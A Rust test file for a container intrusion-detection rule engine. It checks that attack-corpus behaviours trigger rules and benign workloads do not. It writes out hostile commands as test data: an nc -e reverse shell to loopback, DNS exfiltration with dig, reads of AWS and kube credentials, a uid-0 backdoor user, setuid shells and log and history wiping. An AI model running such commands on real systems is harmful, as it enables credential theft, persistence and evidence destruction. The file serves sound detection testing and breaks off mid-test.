//! The default rules against the corpora of `tests/corpus/`: the ids the attack corpus expects
//! exist (or are planned), each behaviour's events are caught by a rule it expects and reach
//! `alert` on their own where the behaviour is high-confidence, and what the benign workloads
//! do matches nothing.

use serde_yaml_ng::Value;

use super::*;
use crate::{
    event::{Role, Syscall, SyscallOperation},
    score::{Decision, Engine, Record, ScoreConfig},
};

const ATTACK: &str = include_str!("../../../../tests/corpus/attack.yaml");
const BENIGN: &str = include_str!("../../../../tests/corpus/benign.yaml");

fn corpus(text: &str) -> Value {
    serde_yaml_ng::from_str(text).unwrap()
}

fn strings(value: &Value) -> Vec<String> {
    value
        .as_sequence()
        .map(|items| {
            items
                .iter()
                .filter_map(|v| v.as_str().map(str::to_owned))
                .collect()
        })
        .unwrap_or_default()
}

fn default_ids() -> Vec<String> {
    RuleSet::defaults()
        .unwrap()
        .rules()
        .iter()
        .map(|r| r.meta().id.clone())
        .collect()
}

/// `planned_rules` lists exactly the ids that behaviours expect and the defaults lack.
#[test]
fn expected_rule_ids_exist_or_are_planned() {
    let attack = corpus(ATTACK);
    let defaults = default_ids();
    let planned: Vec<String> = attack["planned_rules"]
        .as_sequence()
        .unwrap()
        .iter()
        .map(|p| p["id"].as_str().unwrap().to_owned())
        .collect();
    let expected: Vec<String> = attack["behaviours"]
        .as_sequence()
        .unwrap()
        .iter()
        .flat_map(|b| strings(&b["expect"]))
        .collect();
    for id in &planned {
        assert!(
            !defaults.contains(id),
            "{id} is planned and in the defaults"
        );
        assert!(
            expected.contains(id),
            "{id} is planned and expected by nothing"
        );
    }
    for id in &expected {
        assert!(
            defaults.contains(id) || planned.contains(id) || id == "egress-spike",
            "{id} is expected, neither a default rule nor planned"
        );
    }
}

// ---------------------------------------------------------------- events as the kernel reports them

/// The command name the kernel gives a program: its file's name.
fn comm_of(filename: &str) -> String {
    filename.rsplit('/').next().unwrap_or(filename).to_owned()
}

/// A command typed in an exec session (`kubectl exec pod -- sh -c '...'`): the session
/// shell's child.
fn typed(filename: &str, argv: &[&str]) -> Event {
    let mut e = exec(filename, argv, &["/usr/bin/bash"]);
    e.process.comm = Some(comm_of(filename));
    e
}

/// The exec session's own command, started by the runtime.
fn session(filename: &str, argv: &[&str]) -> Event {
    let mut e = exec(filename, argv, &["/usr/bin/containerd-shim-runc-v2"]);
    e.process.comm = Some(comm_of(filename));
    e.lineage = Some(lineage(Role::ExecSession, true));
    e
}

/// The same event by a process of the workload (the entrypoint's lineage), with its parents.
fn workload(mut e: Event, leader: bool, parents: &[&str]) -> Event {
    e.lineage = Some(lineage(Role::Entrypoint, leader));
    e.ancestry = parents
        .iter()
        .map(|exe| Ancestor {
            pid: 1,
            exe: (*exe).into(),
        })
        .collect();
    e
}

/// The same event by a process named `comm`.
fn by(mut e: Event, comm: &str) -> Event {
    e.process.comm = Some(comm.into());
    e
}

/// An open with write intent by the exec session's shell (`echo ... > path`), with the log
/// class as the kernel gives it (under /var/log, or a name ending in `_history`).
fn write(path: &str) -> Event {
    let mut e = open_write(path);
    e.process.comm = Some("bash".into());
    if let Body::File(file) = &mut e.body {
        file.log = is_log(path);
    }
    e
}

fn is_log(path: &str) -> bool {
    path.starts_with("/var/log/") || path.ends_with("_history")
}

/// A failed open with write intent (refused), reported with the path as passed.
fn refused_write(path: &str) -> Event {
    let mut e = write(path);
    if let Body::File(file) = &mut e.body {
        file.result = Some(-30);
    }
    e
}

/// A read-only open of a read-sensitive path.
fn read(path: &str) -> Event {
    let mut e = write(path);
    if let Body::File(file) = &mut e.body {
        file.flags = 0;
        file.write = false;
        file.sensitive = false;
        file.read_sensitive = true;
    }
    e
}

/// An unlink, chmod or rename (`to`: its new name) by the exec session's shell.
fn path_op(op: FileOperation, path: &str, to: Option<&str>) -> Event {
    let mut e = write(path);
    if let Body::File(file) = &mut e.body {
        file.op = op;
        file.write = false;
        file.target = to.map(Into::into);
        file.log |= to.is_some_and(is_log);
    }
    e
}

/// A system call of the exec session's commands, with its tags.
fn syscall(comm: &str, op: SyscallOperation, tags: &[&str]) -> Event {
    let mut call = Syscall::new(op, op.as_str(), 0);
    call.tags = tags.iter().map(|t| (*t).to_owned()).collect();
    let mut e = event(Body::Syscall(call));
    e.process.comm = Some(comm.into());
    e
}

/// An exec of a program with no name left (a memfd, an unlinked file).
fn fileless(filename: &str, argv: &[&str]) -> Event {
    let mut e = typed(filename, argv);
    if let Body::Exec(exec) = &mut e.body {
        exec.fileless = true;
    }
    e
}

/// An exec whose standard input and output are an inet socket.
fn on_socket(mut e: Event) -> Event {
    if let Body::Exec(exec) = &mut e.body {
        exec.stdin_socket = true;
        exec.stdout_socket = true;
    }
    e
}

fn connect(comm: &str, addr: &str, port: u16) -> Event {
    let mut e = event(Body::Connect(Connect {
        family: "ipv4".into(),
        protocol: "tcp".into(),
        daddr: addr.parse().unwrap(),
        dport: port,
        blocked: false,
    }));
    e.process.comm = Some(comm.into());
    e
}

/// What a run of `events` gives one pod: the rules that fired and the highest decision.
fn score(events: &[Event]) -> (Vec<String>, Decision) {
    let mut engine = Engine::new(RuleSet::defaults().unwrap(), ScoreConfig::default());
    let mut fired = Vec::new();
    let mut decision = Decision::Log;
    for e in events {
        for record in engine.process(e) {
            if let Record::Alert(alert) = record {
                if !fired.contains(&alert.rule.id) {
                    fired.push(alert.rule.id.clone());
                }
                decision = decision.max(alert.decision);
            }
        }
    }
    (fired, decision)
}

/// Attack behaviours as the events their scripts make, and whether the behaviour is
/// high-confidence enough to reach `alert` on its own.
fn behaviours() -> Vec<(&'static str, bool, Vec<Event>)> {
    use FileOperation::{Chmod, Rename, Unlink};
    use SyscallOperation::{
        BpfProgLoad, DupSocket, IoUringSetup, MemfdCreate, Mknod, ModuleLoad, Mount, Ptrace, Setns,
        Setuid, Socket, Umount, Unshare,
    };
    let redis = |e: Event| workload(by(e, "redis-server"), true, &[SHIM]);
    vec![
        (
            "redis-config-set-cron",
            true,
            vec![
                redis(write("/etc/cron.d/temp-7.rdb")),
                redis(path_op(
                    Rename,
                    "/etc/cron.d/temp-7.rdb",
                    Some("/etc/cron.d/corpus-backdoor"),
                )),
            ],
        ),
        (
            "redis-config-set-authorized-keys",
            true,
            vec![
                redis(write("/root/.ssh/temp-7.rdb")),
                redis(path_op(
                    Rename,
                    "/root/.ssh/temp-7.rdb",
                    Some("/root/.ssh/authorized_keys"),
                )),
            ],
        ),
        (
            "script-run-by-shell-interpreter",
            true,
            vec![
                write("/tmp/run.sh"),
                typed("/usr/bin/sh", &["sh", "/tmp/run.sh"]),
                typed("/usr/bin/bash", &["bash", "/tmp/run.sh"]),
                typed("/usr/bin/id", &["id"]),
                typed("/usr/bin/uname", &["uname", "-a"]),
            ],
        ),
        (
            "terminal-shell-via-script",
            true,
            vec![
                typed(
                    "/usr/bin/script",
                    &["script", "-qec", "bash -i -c 'tty; id'", "/dev/null"],
                ),
                with_tty(typed("/bin/sh", &["sh", "-c", "bash -i -c 'tty; id'"])),
                with_tty(typed("/usr/bin/bash", &["bash", "-i", "-c", "tty; id"])),
                with_tty(typed("/usr/bin/tty", &["tty"])),
                with_tty(typed("/usr/bin/id", &["id"])),
            ],
        ),
        (
            "nc-e-reverse-shell",
            true,
            vec![typed(
                "/usr/bin/nc",
                &["nc", "-e", "/bin/sh", "127.0.0.1", "9001"],
            )],
        ),
        (
            "ssh-client-nonstandard-port",
            true,
            vec![
                typed(
                    "/usr/bin/ln",
                    &["ln", "-sf", "/usr/bin/nc.openbsd", "/tmp/ssh"],
                ),
                typed("/tmp/ssh", &["/tmp/ssh", "-w", "2", "127.0.0.1", "2222"]),
                connect("ssh", "127.0.0.1", 2222),
            ],
        ),
        (
            "dig-dns-exfil-loopback",
            true,
            vec![typed(
                "/usr/bin/dig",
                &[
                    "dig",
                    "@127.0.0.1",
                    "-p",
                    "5353",
                    "6465.x.exfil.example",
                    "A",
                ],
            )],
        ),
        (
            "read-aws-credentials",
            true,
            vec![
                typed("/usr/bin/cat", &["cat", "/root/.aws/credentials"]),
                by(read("/root/.aws/credentials"), "cat"),
            ],
        ),
        (
            "read-kube-config",
            true,
            vec![
                typed("/usr/bin/cat", &["cat", "/root/.kube/config"]),
                by(read("/root/.kube/config"), "cat"),
            ],
        ),
        (
            "read-gcloud-azure-credentials",
            true,
            vec![
                by(read("/root/.config/gcloud/credentials.db"), "python3"),
                by(read("/root/.azure/accessTokens.json"), "python3"),
            ],
        ),
        (
            "read-proc-environ",
            true,
            vec![
                typed("/usr/bin/cat", &["cat", "/proc/4242/environ"]),
                by(read("/proc/4242/environ"), "cat"),
                typed("/usr/bin/grep", &["grep", "-i", "password"]),
                typed("/usr/bin/cat", &["cat", "/proc/1/environ"]),
                by(read("/proc/1/environ"), "cat"),
            ],
        ),
        (
            "grep-aws-secret-keys",
            true,
            vec![typed(
                "/usr/bin/grep",
                &[
                    "grep",
                    "-rIl",
                    "aws_secret_access_key",
                    "/root",
                    "/home",
                    "/srv",
                ],
            )],
        ),
        (
            "grep-private-keys",
            true,
            vec![typed(
                "/usr/bin/grep",
                &["grep", "-rIl", "BEGIN OPENSSH PRIVATE", "/root", "/home"],
            )],
        ),
        (
            "find-aws-credentials",
            true,
            vec![typed(
                "/usr/bin/find",
                &[
                    "find",
                    "/",
                    "-xdev",
                    "-type",
                    "f",
                    "-path",
                    "*.aws/credentials",
                ],
            )],
        ),
        (
            "symlink-over-shadow",
            true,
            vec![
                typed(
                    "/usr/bin/ln",
                    &["ln", "-sf", "/etc/shadow", "/var/www/html/robots.txt"],
                ),
                by(
                    path_op(
                        FileOperation::Symlink,
                        "/etc/shadow",
                        Some("/var/www/html/robots.txt"),
                    ),
                    "ln",
                ),
            ],
        ),
        (
            "hardlink-over-shadow",
            true,
            vec![
                typed("/usr/bin/ln", &["ln", "/etc/shadow", "/tmp/.s"]),
                by(
                    path_op(FileOperation::Link, "/etc/shadow", Some("/tmp/.s")),
                    "ln",
                ),
            ],
        ),
        (
            "cron-d-file-written",
            true,
            vec![
                write("/etc/cron.d/updater"),
                path_op(Chmod, "/etc/cron.d/updater", None),
            ],
        ),
        (
            "crontab-spool-written",
            true,
            vec![write("/var/spool/cron/crontabs/root")],
        ),
        (
            "ld-so-preload-written",
            true,
            vec![
                write("/etc/ld.so.preload"),
                path_op(Unlink, "/etc/ld.so.preload", None),
            ],
        ),
        (
            "passwd-shadow-backdoor-user",
            true,
            vec![write("/etc/passwd"), write("/etc/shadow")],
        ),
        (
            "useradd-uid0",
            true,
            vec![
                typed(
                    "/usr/sbin/useradd",
                    &["useradd", "-o", "-u", "0", "-g", "0", "svc-backup"],
                ),
                by(write("/etc/passwd+"), "useradd"),
                by(
                    path_op(Rename, "/etc/passwd+", Some("/etc/passwd")),
                    "useradd",
                ),
            ],
        ),
        ("sudoers-d-written", true, vec![write("/etc/sudoers.d/app")]),
        (
            "authorized-keys-root",
            true,
            vec![write("/root/.ssh/authorized_keys")],
        ),
        (
            "authorized-keys-home",
            true,
            vec![write("/home/app/.ssh/authorized_keys")],
        ),
        ("bashrc-backdoor", true, vec![write("/root/.bashrc")]),
        (
            "profile-d-script",
            true,
            vec![write("/etc/profile.d/zz-update.sh")],
        ),
        (
            "apt-source-added",
            true,
            vec![write("/etc/apt/sources.list.d/mirror.list")],
        ),
        ("hosts-file-hijack", true, vec![write("/etc/hosts")]),
        (
            "nginx-config-tampered-and-reloaded",
            true,
            vec![write("/etc/nginx/conf.d/debug.conf")],
        ),
        (
            "release-agent-write-attempt",
            true,
            vec![
                refused_write("/sys/fs/cgroup/release_agent"),
                refused_write("/sys/fs/cgroup/*/notify_on_release"),
            ],
        ),
        (
            "debugfs-on-block-device",
            true,
            vec![typed(
                "/usr/sbin/debugfs",
                &["debugfs", "-R", "ls -l /", "/dev/sda1"],
            )],
        ),
        (
            "setuid-copy-of-bash",
            true,
            vec![
                typed("/usr/bin/cp", &["cp", "/bin/bash", "/tmp/.bash"]),
                by(write("/tmp/.bash"), "cp"),
                typed("/usr/bin/chmod", &["chmod", "4755", "/tmp/.bash"]),
            ],
        ),
        (
            "setuid-system-binary",
            true,
            vec![
                typed("/usr/bin/chmod", &["chmod", "u+s", "/usr/bin/find"]),
                by(path_op(Chmod, "/usr/bin/find", None), "chmod"),
            ],
        ),
        (
            "write-file-below-dev",
            true,
            vec![
                write("/dev/.udev-cache"),
                typed("/usr/bin/cp", &["cp", "/usr/bin/id", "/dev/.x"]),
                by(write("/dev/.x"), "cp"),
            ],
        ),
        (
            "truncate-var-log",
            true,
            vec![
                write("/var/log/dpkg.log"),
                write("/var/log/app/access.log"),
                typed(
                    "/usr/bin/truncate",
                    &["truncate", "-c", "-s", "0", "/var/log/alternatives.log"],
                ),
                by(write("/var/log/alternatives.log"), "truncate"),
            ],
        ),
        (
            "delete-var-log",
            true,
            vec![
                typed(
                    "/usr/bin/rm",
                    &[
                        "rm",
                        "-rf",
                        "/var/log/apt",
                        "/var/log/dpkg.log",
                        "/var/log/app",
                    ],
                ),
                by(path_op(Unlink, "/var/log/dpkg.log", None), "rm"),
            ],
        ),
        (
            "bash-history-removed",
            true,
            vec![
                typed("/usr/bin/rm", &["rm", "-f", "/root/.bash_history"]),
                by(path_op(Unlink, "/root/.bash_history", None), "rm"),
            ],
        ),
        (
            "history-cleared-in-session",
            true,
            vec![
                session(
                    "/usr/bin/bash",
                    &[
                        "bash",
                        "-c",
                        "history -c\nunset HISTFILE\nexport HISTSIZE=0\ncat /dev/null > /root/.bash_history\nexit 0\n",
                    ],
                ),
                typed("/usr/bin/cat", &["cat", "/dev/null"]),
                write("/root/.bash_history"),
            ],
        ),
        (
            "history-linked-to-dev-null",
            true,
            vec![
                typed(
                    "/usr/bin/ln",
                    &["ln", "-sf", "/dev/null", "/root/.bash_history"],
                ),
                by(
                    path_op(
                        FileOperation::Symlink,
                        "/dev/null",
                        Some("/root/.bash_history"),
                    ),
                    "ln",
                ),
            ],
        ),
        (
            "shred-files",
            true,
            vec![
                typed("/usr/bin/shred", &["shred", "-u", "-n", "1", "/tmp/.stage"]),
                typed(
                    "/usr/bin/shred",
                    &["shred", "-n", "1", "-z", "/var/log/dpkg.log"],
                ),
            ],
        ),
        (
            "hidden-files-in-tmp",
            true,
            vec![
                write("/tmp/.X11-cache"),
                typed("/usr/bin/cp", &["cp", "/usr/bin/id", "/dev/shm/.k"]),
                by(write("/dev/shm/.k"), "cp"),
            ],
        ),
        (
            "masquerade-kworker-name",
            true,
            vec![
                typed(
                    "/usr/bin/ln",
                    &["ln", "-sf", "/usr/bin/sleep", "/tmp/kworker"],
                ),
                typed("/tmp/kworker", &["/tmp/kworker", "2"]),
                typed("/tmp/sshd", &["/tmp/sshd", "2"]),
            ],
        ),
        (
            "discovery-commands-burst",
            true,
            [
                &["id"][..],
                &["whoami"],
                &["uname", "-a"],
                &["hostname"],
                &["cat", "/etc/os-release"],
                &["ps", "aux"],
                &["ip", "addr"],
                &["ip", "route"],
                &["ss", "-tunlp"],
                &["mount"],
                &["head", "-n", "20"],
                &["df", "-h"],
                &["env"],
                &["sort"],
                &["ls", "-la", "/root", "/home"],
            ]
            .iter()
            .map(|argv| typed(&format!("/usr/bin/{}", argv[0]), argv))
            .collect(),
        ),
        (
            "container-escape-recon",
            true,
            [
                &["cat", "/proc/1/cgroup"][..],
                &["grep", "-i", "cap", "/proc/self/status"],
                &["head", "-n", "20", "/proc/self/mountinfo"],
                &["ls", "-la", "/.dockerenv", "/run/.containerenv"],
                &["ls", "/dev"],
                &["findmnt", "-n", "-o", "TARGET,SOURCE,FSTYPE"],
                &["head", "-n", "20"],
                &["cat", "/proc/cmdline", "/proc/version"],
            ]
            .iter()
            .map(|argv| typed(&format!("/usr/bin/{}", argv[0]), argv))
            .collect(),
        ),
        (
            "kubernetes-recon-from-pod",
            true,
            vec![
                typed("/usr/bin/env", &["env"]),
                typed(
                    "/usr/bin/grep",
                    &["grep", "-i", "-E", "kube|_service_(host|port)"],
                ),
                typed(
                    "/usr/bin/cat",
                    &[
                        "cat",
                        "/var/run/secrets/kubernetes.io/serviceaccount/namespace",
                    ],
                ),
                by(
                    read("/run/secrets/kubernetes.io/serviceaccount/namespace"),
                    "cat",
                ),
                typed(
                    "/usr/bin/ls",
                    &["ls", "-la", "/var/run/secrets/kubernetes.io/serviceaccount"],
                ),
                by(read("/run/secrets/kubernetes.io/serviceaccount"), "ls"),
            ],
        ),
        (
            "container-runtime-socket-probe",
            true,
            vec![
                typed(
                    "/usr/bin/ls",
                    &[
                        "ls",
                        "-la",
                        "/var/run/docker.sock",
                        "/run/containerd/containerd.sock",
                    ],
                ),
                typed(
                    "/usr/bin/curl",
                    &[
                        "curl",
                        "-s",
                        "--unix-socket",
                        "/var/run/docker.sock",
                        "http://localhost/version",
                    ],
                ),
            ],
        ),
        (
            "miner-stratum-connect",
            true,
            vec![
                typed(
                    "/usr/bin/python3",
                    &[
                        "python3",
                        "-",
                        "-o",
                        "stratum+tcp://127.0.0.1:3333",
                        "-p",
                        "x",
                    ],
                ),
                connect("python3", "127.0.0.1", 3333),
            ],
        ),
        (
            "miner-binary-dropped",
            true,
            vec![
                by(write("/tmp/xmrig"), "cp"),
                typed("/tmp/xmrig", &["/tmp/xmrig", "1"]),
            ],
        ),
        (
            "bash-dev-tcp-reverse-shell",
            true,
            vec![
                syscall("bash", DupSocket, &["stdout"]),
                syscall("bash", DupSocket, &["stderr"]),
                syscall("bash", DupSocket, &["stdin"]),
                on_socket(typed("/usr/bin/bash", &["bash", "-i"])),
            ],
        ),
        (
            "python-dup2-reverse-shell",
            true,
            vec![
                syscall("python3", DupSocket, &["stdin"]),
                on_socket(typed("/bin/sh", &["sh", "-i"])),
            ],
        ),
        (
            "perl-socket-reverse-shell",
            true,
            vec![
                syscall("perl", DupSocket, &["stdin"]),
                on_socket(typed("/bin/sh", &["sh", "-i"])),
            ],
        ),
        (
            "download-exec-typed-in-reverse-shell",
            true,
            vec![on_socket(typed("/bin/sh", &["sh"]))],
        ),
        (
            "packet-socket-af-packet",
            true,
            vec![syscall("python3", Socket, &["packet", "raw"])],
        ),
        (
            "raw-icmp-socket",
            true,
            vec![syscall("python3", Socket, &["inet", "raw"])],
        ),
        (
            "memfd-exec-python",
            true,
            vec![
                syscall("python3", MemfdCreate, &[]),
                fileless("/proc/self/fd/3", &["[kworker/u8:2]"]),
            ],
        ),
        (
            "memfd-fexecve-python",
            true,
            vec![fileless("/dev/fd/3", &["id"])],
        ),
        (
            "mount-host-disk-attempt",
            true,
            vec![
                typed("/usr/bin/mount", &["mount", "/dev/sda1", "/mnt/host"]),
                syscall("mount", Mount, &["fstype:proc", "refused"]),
            ],
        ),
        (
            "mount-tmpfs-sys-admin",
            true,
            vec![
                syscall("mount", Mount, &["fstype:tmpfs"]),
                syscall("umount", Umount, &[]),
            ],
        ),
        (
            "unshare-user-ns-attempt",
            true,
            vec![
                typed("/usr/bin/unshare", &["unshare", "-Ur", "id"]),
                syscall("unshare", Unshare, &["newuser", "newns", "refused"]),
            ],
        ),
        (
            "nsenter-pid1-attempt",
            true,
            vec![syscall("nsenter", Setns, &["newns", "refused"])],
        ),
        (
            "kernel-module-load-attempt",
            true,
            vec![
                syscall("perl", ModuleLoad, &["init_module", "refused"]),
                syscall("perl", ModuleLoad, &["finit_module", "refused"]),
            ],
        ),
        (
            "bpf-prog-load-attempt",
            true,
            vec![syscall("perl", BpfProgLoad, &["socket_filter", "refused"])],
        ),
        (
            "ptrace-traceme",
            true,
            vec![syscall("perl", Ptrace, &["traceme"])],
        ),
        (
            "ptrace-seize-pid1",
            true,
            vec![syscall("perl", Ptrace, &["seize", "refused"])],
        ),
        (
            "privilege-change-to-root-via-setuid-shell",
            true,
            vec![
                typed("/usr/bin/chmod", &["chmod", "4755", "/tmp/.rootsh"]),
                syscall("python3", Setuid, &["to_root", "from_non_root"]),
            ],
        ),
        (
            "mknod-block-device",
            true,
            vec![syscall("mknod", Mknod, &["block"])],
        ),
        (
            "io-uring-ring-setup",
            false,
            vec![syscall("perl", IoUringSetup, &[])],
        ),
    ]
}

const SHIM: &str = "/usr/bin/containerd-shim-runc-v2";

fn with_tty(mut e: Event) -> Event {
    if let Some(l) = &mut e.lineage {
        l.tty = true;
    }
    e
}

#[test]
fn attack_behaviours_are_caught_by_an_expected_rule() {
    let attack = corpus(ATTACK);
    let expect = |id: &str| {
        attack["behaviours"]
            .as_sequence()
            .unwrap()
            .iter()
            .find(|b| b["id"].as_str() == Some(id))
            .map(|b| strings(&b["expect"]))
            .unwrap_or_else(|| panic!("no behaviour {id} in the attack corpus"))
    };
    let mut problems = Vec::new();
    for (id, alone, events) in behaviours() {
        let (fired, decision) = score(&events);
        let expected = expect(id);
        if !fired.iter().any(|r| expected.contains(r)) {
            problems.push(format!(
                "{id}: fired {fired:?}, expects any of {expected:?}"
            ));
        }
        if alone && decision < Decision::Alert {
            problems.push(format!("{id}: {decision:?} only ({fired:?})"));
        }
    }
    assert!(problems.is_empty(), "{}", problems.join("\n"));
}

/// A burst of reconnaissance alerts; it does not contain, and a command or two is nothing.
#[test]
fn discovery_adds_up_to_an_alert_only_in_a_burst() {
    let burst = behaviours()
        .into_iter()
        .find(|(id, ..)| *id == "discovery-commands-burst")
        .unwrap()
        .2;
    assert_eq!(score(&burst).1, Decision::Alert);
    let (fired, decision) = score(&burst[..3]);
    assert_eq!(fired, ["discovery-tools"]);
    assert_eq!(decision, Decision::Log);
}

/// The benign corpus's entrypoints and exec probes, as the runtime starts them, match nothing.
#[test]
fn benign_entrypoints_and_probes_match_nothing() {
    let set = RuleSet::defaults().unwrap();
    let benign = corpus(BENIGN);
    let started = |argv: &[String], role: Role| {
        let filename = if argv[0].starts_with('/') {
            argv[0].clone()
        } else {
            format!("/usr/bin/{}", argv[0])
        };
        let argv: Vec<&str> = argv.iter().map(String::as_str).collect();
        let mut e = exec(&filename, &argv, &[SHIM]);
        e.process.comm = Some(comm_of(&filename));
        e.lineage = Some(lineage(role, true));
        e
    };
    let mut problems = Vec::new();
    for w in benign["workloads"].as_sequence().unwrap() {
        let id = w["id"].as_str().unwrap();
        let entrypoint = &w["entrypoint"];
        let argv = match entrypoint["shell"].as_str() {
            Some(text) => vec!["/bin/sh".to_owned(), "-c".to_owned(), text.to_owned()],
            None => strings(&entrypoint["exec"]),
        };
        let mut starts = vec![started(&argv, Role::Entrypoint)];
        for probe in w["probes"].as_sequence().into_iter().flatten() {
            starts.push(started(&strings(&probe["command"]), Role::Probe));
        }
        for e in &starts {
            let got = ids(&set, e);
            if !got.is_empty() {
                problems.push(format!("{id}: {got:?} for {e:?}"));
            }
        }
    }
    assert!(problems.is_empty(), "{}", problems.join("\n"));
}

/// What the benign workloads do that a rule could take for an attack (their
/// `false_positive_risks`): start-up configuration under /etc, logs written, rotated and
/// pruned, servers persisting and starting their helpers, wait loops.
#[test]
fn benign_workloads_risky_events_match_nothing() {
    use FileOperation::{Chmod, Rename, Unlink};
    let set = RuleSet::defaults().unwrap();
    // The entrypoint shell's children, and the shell itself (pid 1).
    let child = |e: Event, comm: &str| workload(by(e, comm), false, &["/bin/sh", SHIM]);
    let main = |e: Event, comm: &str| workload(by(e, comm), true, &[SHIM]);
    let run = |filename: &str, argv: &[&str]| {
        let e = exec(filename, argv, &[]);
        child(e, &comm_of(filename))
    };
    let rotation = |e: Event, comm: &str| {
        workload(
            by(e, comm),
            false,
            &["/usr/sbin/logrotate", "/bin/sh", "/bin/sh", SHIM],
        )
    };
    let events = [
        // nginx-under-load: sed -i on the default site, then nginx's logs and pid file.
        run(
            "/usr/bin/sed",
            &[
                "sed",
                "-i",
                "/listen \\[::\\]/d",
                "/etc/nginx/sites-available/default",
            ],
        ),
        child(write("/etc/nginx/sites-available/sedU3x9Qa"), "sed"),
        child(
            path_op(
                Rename,
                "/etc/nginx/sites-available/sedU3x9Qa",
                Some("/etc/nginx/sites-available/default"),
            ),
            "sed",
        ),
        child(write("/var/log/nginx/access.log"), "nginx"),
        child(write("/run/nginx.pid"), "nginx"),
        child(connect("python3", "127.0.0.1", 80), "python3"),
        // nginx-shell-form-startup: configuration rendered into /etc, the default site removed.
        main(write("/etc/nginx/templates/app.conf.template"), "sh"),
        main(write("/etc/nginx/conf.d/app.conf"), "sh"),
        child(
            path_op(Unlink, "/etc/nginx/sites-enabled/default", None),
            "rm",
        ),
        child(
            path_op(
                FileOperation::Symlink,
                "/etc/nginx/sites-available/app",
                Some("/etc/nginx/sites-enabled/app"),
            ),
            "ln",
        ),
        run(
            "/usr/bin/chown",
            &[
                "chown",
                "-R",
                "www-data:www-data",
                "/var/cache/app",
                "/var/www/app",
            ],
        ),
        run("/usr/bin/hostname", &["hostname"]),
        // redis-under-benchmark: RDB and AOF persistence.
        child(write("/var/lib/redis/temp-42.rdb"), "redis-server"),
        child(
            path_op(
                Rename,
                "/var/lib/redis/temp-42.rdb",
                Some("/var/lib/redis/dump.rdb"),
            ),
            "redis-server",
        ),
        child(
            write("/var/lib/redis/appendonlydir/appendonly.aof.1.incr.aof"),
            "redis-server",
        ),
        run(
            "/usr/bin/redis-benchmark",
            &["redis-benchmark", "-h", "127.0.0.1", "-q", "-n", "5000"],
        ),
        // python-http-server and python-prefork-workers.
        main(write("/tmp/healthy"), "python3"),
        main(write("/var/log/app/access.log"), "python3"),
        workload(
            by(
                exec("/usr/bin/date", &["date", "-u", "+%FT%TZ"], &[]),
                "date",
            ),
            false,
            &["/usr/bin/python3", SHIM],
        ),
        // log-writer-with-rotation: its logrotate configuration, then rotations every 10 s.
        child(write("/etc/logrotate.d/app"), "cat"),
        child(path_op(Chmod, "/etc/logrotate.d/app", None), "chmod"),
        rotation(write("/var/log/app/app.log"), "logrotate"),
        rotation(write("/var/log/app/app.log.1"), "logrotate"),
        rotation(
            path_op(
                Rename,
                "/var/log/app/audit.log",
                Some("/var/log/app/audit.log.1"),
            ),
            "logrotate",
        ),
        rotation(
            path_op(Unlink, "/var/log/app/app.log.3.gz", None),
            "logrotate",
        ),
        rotation(write("/var/log/app/app.log.2.gz"), "gzip"),
        rotation(path_op(Unlink, "/var/log/app/app.log.2", None), "gzip"),
        rotation(
            exec(
                "/usr/bin/gzip",
                &["/usr/bin/gzip", "-f", "/var/log/app/app.log.2"],
                &[],
            ),
            "gzip",
        ),
        rotation(
            exec(
                "/bin/sh",
                &["sh", "-c", "touch /run/app-reopen", "logrotate_script"],
                &[],
            ),
            "sh",
        ),
        // dns-config-reader: localhost added to /etc/hosts, then the same reads every second.
        main(write("/etc/hosts"), "sh"),
        run("/usr/bin/cat", &["cat", "/etc/resolv.conf"]),
        run("/usr/bin/head", &["head", "-n", "20", "/etc/hosts"]),
        run("/usr/bin/getent", &["getent", "passwd", "root"]),
        run(
            "/usr/bin/grep",
            &["grep", "-E", "^(hosts|passwd):", "/etc/nsswitch.conf"],
        ),
        // exec-probes-twice-a-second.
        main(write("/tmp/ready"), "sh"),
        // cron-like-loop: a backup, a log copy and pruning every minute.
        run(
            "/usr/bin/tar",
            &[
                "tar",
                "czf",
                "/var/lib/app/backups/state-3.tgz",
                "-C",
                "/var/lib/app",
                "data",
            ],
        ),
        run(
            "/usr/bin/cp",
            &["cp", "/var/log/app/cron.log", "/var/log/app/cron.log.3.old"],
        ),
        child(write("/var/log/app/cron.log.3.old"), "cp"),
        run(
            "/usr/bin/find",
            &[
                "find",
                "/var/log/app",
                "-name",
                "*.old",
                "-mmin",
                "+1",
                "-delete",
            ],
        ),
        child(path_op(Unlink, "/var/log/app/cron.log.1.old", None), "find"),
        child(write("/tmp/app/tick-3.tmp"), "sh"),
        // init-wait-for-dependency: a daemonized redis, the wait loop, the app's pings.
        child(write("/var/log/redis-dep.log"), "redis-server"),
        child(write("/run/redis_6380.pid"), "redis-server"),
        run("/usr/bin/nc", &["nc", "-z", "127.0.0.1", "6380"]),
        child(connect("nc", "127.0.0.1", 6380), "nc"),
        // batch-job-to-completion.
        child(write("/work/out/numbers.txt"), "sort"),
        run("/usr/bin/gzip", &["gzip", "-f", "/work/out/numbers.txt"]),
        run(
            "/usr/bin/tar",
            &["tar", "cf", "/work/out.tar", "-C", "/work", "out"],
        ),
    ];
    let problems: Vec<String> = events
        .iter()
        .filter_map(|e| {
            let got = ids(&set, e);
            (!got.is_empty()).then(|| format!("{got:?} for {e:?}"))
        })
        .collect();
    assert!(problems.is_empty(), "{}", problems.join("\n"));
}

/// A workload's own wait loop on a dependency whose name holds `-e` or `-c` is not `nc -e`,
/// and a shell with a terminal as a container's main process (`tty: true`) is not a session.
#[test]
fn look_alikes_of_attacks_in_the_workload() {
    let set = RuleSet::defaults().unwrap();
    let wait = workload(
        by(
            exec("/usr/bin/nc", &["nc", "redis-cache", "6379"], &[]),
            "nc",
        ),
        false,
        &["/bin/sh", SHIM],
    );
    assert!(ids(&set, &wait).is_empty());
    let check = typed("/usr/bin/nc", &["nc", "-vz", "redis-east", "6379"]);
    assert_eq!(ids(&set, &check), ["transfer-tool"]);
    let mut console = workload(by(exec("/bin/bash", &["bash"], &[]), "bash"), true, &[SHIM]);
    console.lineage = Some(Lineage {
        role: Role::Entrypoint,
        tty: true,
        leader: true,
    });
    let got = ids(&set, &console);
    assert!(!got.contains(&"terminal-shell".to_owned()), "{got:?}");
    // An interactive session saving its history on exit is not clearing it.
    let mut save = with_tty(write("/root/.bash_history"));
    assert!(ids(&set, &save).is_empty());
    save = with_tty(path_op(
        FileOperation::Rename,
        "/root/.bash_history-01234.tmp",
        Some("/root/.bash_history"),
    ));
    assert!(ids(&set, &save).is_empty());
    // ssh to the standard port, and its name lookup.
    assert!(ids(&set, &connect("ssh", "10.0.0.5", 22)).is_empty());
    assert!(ids(&set, &connect("ssh", "10.96.0.10", 53)).is_empty());
    // A process reading its own environment.
